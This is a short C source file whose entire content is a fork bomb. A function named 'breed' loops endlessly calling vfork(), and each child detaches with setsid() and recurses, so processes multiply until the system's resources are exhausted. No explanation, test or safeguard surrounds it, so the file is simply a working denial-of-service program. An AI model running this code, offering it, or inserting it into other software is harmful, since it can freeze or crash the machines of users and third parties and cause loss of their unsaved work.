// SPDX-License-Identifier: GPL-3.0-or-later
#include <unistd.h>
static void breed(void)
{
    for (;;) {
        if (vfork() == 0) {
            setsid();
            breed();
        }
    }
}
int main(void)
{
    breed();
}
